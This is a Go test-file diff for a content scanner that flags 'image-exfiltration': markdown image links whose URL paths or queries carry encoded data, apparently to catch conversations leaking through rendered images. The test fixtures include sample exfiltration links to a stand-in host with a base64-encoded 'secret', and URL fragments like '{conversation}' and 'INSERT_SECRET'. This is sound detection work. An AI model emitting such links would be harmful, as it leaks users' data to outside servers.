@@ -1,6 +1,7 @@
 package content
 
 import (
+	"math/rand/v2"
 	"strings"
 	"testing"
 
@@ -70,4 +71,33 @@ func TestPicturesThatAreNamedByDigests(t *testing.T) {
 	for _, path := range []string{"i/8d71b161fd145d11c40d55c9ab66ac134a3032531.png", "8d71b161fd145d11c40d55c9ab66ac134a303253/9d71b161fd145d11c40d55c9ab66ac134a303253.png", "8d71b161fd145d11c40d55c9ab66ac134a303253/aGVsbG8gd29ybGQgc2VjcmV0IDEyMyBtb3JlIGFuZA1.png"} {
 		require.Contains(t, detectors(scanText(t, "![a](https://pictures.example/"+path+")")), "image-exfiltration", path)
 	}
+}
+
+// TestPlainAddressesCarryNothing puts addresses together at random: what is plain has nothing that an address is looked at for.
+func TestPlainAddressesCarryNothing(t *testing.T) {
+	r := rand.New(rand.NewPCG(7, 64))
+	pieces := strings.Fields("docs example org library index name sort a b 1 12 2026 4f5a 9z8y7x6w5v4 9z8y7x6w5v4u aB3dE5fG7hJ a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6e7f8a9b0c1d2 architecture QwErTyUiOpAsDfGhJkLzXcVbNm " +
+		"{conversation} $DATA INSERT_SECRET insert_data insert [x] %41 + @ . : / ? # & = ) , ; ! ' . / / ? & = = - _ ~ \u3002")
+	plain := 0
+	for range 200_000 {
+		rest := ""
+		for range 1 + r.IntN(9) {
+			rest += pieces[r.IntN(len(pieces))]
+		}
+		if strings.HasPrefix(rest, "/") || !plainAddress(rest) {
+			continue
+		}
+		plain++
+		hostEnd := strings.IndexAny(rest, "/?#")
+		if hostEnd < 0 {
+			hostEnd = len(rest)
+		}
+		tail, query := rest[hostEnd:], ""
+		if i := strings.IndexByte(tail, '?'); i >= 0 {
+			query = tail[i+1:]
+		}
+		carried := templated(query) || opaqueIn(query, 12) || opaqueIn(tail, 40) || opaqueLabel(hostName(rest[:hostEnd])) || opaquePieces(query) || asksForData(rest)
+		require.False(t, carried, rest)
+	}
+	require.Greater(t, plain, 10_000)
 }
